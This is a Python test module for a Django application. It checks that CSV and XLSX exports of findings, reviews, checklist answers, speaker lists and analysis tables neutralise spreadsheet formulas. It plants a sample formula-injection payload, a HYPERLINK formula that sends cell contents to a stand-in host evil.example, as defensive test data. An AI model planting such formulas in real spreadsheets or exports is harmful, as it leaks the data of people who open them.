"""Exports cannot carry formulas (issue 14 §7): text planted in the database comes out neutralised.

Every CSV/XLSX export goes through `irm.core.tabular`; the last test guards that no module writes or
reads CSV/XLSX around it.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from irm.core.tabular import FORMULA_TRIGGERS

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def csv_cells(content: bytes | str) -> list[str]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_safe(content: bytes | str) -> None:
    cells = csv_cells(content)
    assert "'" + PLANTED in cells, "the planted text is not in the export"
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not re.fullmatch(r"-?[\d.]+", c)]


def assert_xlsx_safe(content: bytes) -> None:
    cells = xlsx_cells(content)
    assert "'" + PLANTED in [c.value for c in cells], "the planted text is not in the export"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]


def test_findings_export_neutralises_planted_text(cast):
    from irm.convention.models import Chapter
    from irm.cycles.models import Cycle
    from irm.findings.exports import export_findings
    from irm.findings.models import Finding
    from irm.parties.models import State
    from irm.reviews.models import Review

    review = Review.objects.create(
        cycle=Cycle.objects.get(number=2), state=State.objects.get(iso3="KEN"), year=1
    )
    Finding.objects.create(
        review=review, type="challenge", chapter=Chapter.objects.get(number=2), text=PLANTED
    )
    assert_csv_safe(export_findings(cycle_number=2, fmt="csv"))
    assert_xlsx_safe(export_findings(cycle_number=2, fmt="xlsx"))


def test_reviews_overview_export_neutralises_planted_text(client, cast):
    from irm.cycles.models import Cycle
    from irm.parties.models import State
    from irm.reviews.models import Review

    kenya = State.objects.get(iso3="KEN")
    kenya.name_en = PLANTED
    kenya.save(update_fields=["name_en"])
    Review.objects.create(cycle=Cycle.objects.get(number=2), state=kenya, year=1)
    client.force_login(cast["secretariat"])
    for fmt, check in (("csv", assert_csv_safe), ("xlsx", assert_xlsx_safe)):
        response = client.get(f"/reviews/cycle/2/?export={fmt}")
        assert response.status_code == 200, fmt
        check(response.content)


def test_checklist_workbook_neutralises_planted_answers(cast):
    from irm.checklists import selectors, services
    from irm.checklists.documents import xlsx_bytes
    from irm.checklists.models import Question
    from irm.cycles.models import Cycle
    from irm.parties.models import State
    from irm.reviews.models import Review

    review = Review.objects.create(
        cycle=Cycle.objects.get(number=2), state=State.objects.get(iso3="KEN"), year=1
    )
    checklist = services.start_checklist(actor=cast["fp-kenya"], review=review)
    question = Question.objects.get(cycle=review.cycle, code="a5-measures")
    services.save_answer(
        actor=cast["fp-kenya"], checklist=checklist, question=question, value=PLANTED, base_version=0
    )
    assert_xlsx_safe(xlsx_bytes(checklist, selectors.snapshot(checklist)))


def test_speakers_list_export_neutralises_planted_names(cast):
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from irm.meetings import services
    from irm.meetings.exports import speakers_csv
    from irm.meetings.models import Body, ParticipationKind, Rank
    from irm.parties.models import State

    secretariat = cast["secretariat"]
    start = timezone.localdate() + timedelta(days=20)
    session = services.create_session(
        actor=secretariat,
        body=Body.COSP,
        number=99,
        title_en="Ninety-ninth session",
        city="Vienna",
        starts_on=start,
        ends_on=start + timedelta(days=4),
        opens_at=datetime.combine(start, datetime.min.time(), tzinfo=ZoneInfo("Europe/Vienna")).replace(
            hour=10
        ),
        interpreted_meetings_limit=4,
        host_state=State.objects.get(iso3="USA"),
    )
    item = services.add_agenda_item(
        actor=secretariat, session=session, number=1, title_en="General discussion"
    )
    now = timezone.now()
    speakers = services.open_speakers_list(
        actor=secretariat,
        session=session,
        agenda_item=item,
        opens_at=now - timedelta(days=2),
        closes_at=now + timedelta(days=10),
        item_closes_at=now + timedelta(days=12),
        video_deadline=now + timedelta(days=5),
    )
    delegation = services.register_delegation(
        actor=secretariat, session=session, kind=ParticipationKind.PARTY, state=State.objects.get(iso3="KEN")
    )
    services.request_to_speak(
        actor=secretariat,
        speakers_list=speakers,
        delegation=delegation,
        speaker_name=PLANTED,
        rank=Rank.MINISTER,
        received_at=now - timedelta(minutes=5),
    )
    assert_csv_safe(speakers_csv(speakers, "en"))


def test_analysis_tables_neutralise_planted_keys():
    from irm.analysis.reports import needs_csv, needs_xlsx

    row = {"needs": -3, "states": 1, "share": -0.5}
    doc = {
        "cycle": 2,
        "as_of": "2024-01-01",
        "needs_total": 1,
        "states_with_needs": 1,
        "states_with_executive_summary": 1,
        "counting_rules": [PLANTED],
        "by_chapter": [{"chapter": PLANTED, **row}],
        "by_article": [],
        "general_needs": [],
        "by_category": [],
        "by_region": [],
    }
    assert_csv_safe(needs_csv({**doc, "counting_rules": []}))
    assert_xlsx_safe(needs_xlsx(doc))
    numbers = [c.value for c in xlsx_cells(needs_xlsx(doc)) if c.data_type == "n"]
    assert -3 in numbers and -0.5 in numbers  # negative numbers stay numbers


#: Modules allowed to touch csv/openpyxl directly: the one reader/writer, and loaders of the
#: reference data shipped inside the package (trusted files, never uploads).
ALLOWED = {
    "irm/core/tabular.py",
    "irm/parties/reference.py",  # the shipped reference data files (issue 16), read without Django
    "irm/convention/services.py",
    "irm/cycles/services.py",
    "irm/themes/services.py",  # the themes reference file shipped in the package
}
PATTERN = re.compile(r"csv\.(writer|DictWriter|reader|DictReader)\(|load_workbook\(|\bWorkbook\(")


def test_no_module_reads_or_writes_csv_or_xlsx_around_the_one_reader_and_writer():
    root = Path(__file__).resolve().parent.parent
    offenders = [
        str(path.relative_to(root))
        for path in sorted((root / "irm").rglob("*.py"))
        if "tests" not in path.parts
        and str(path.relative_to(root)) not in ALLOWED
        and PATTERN.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
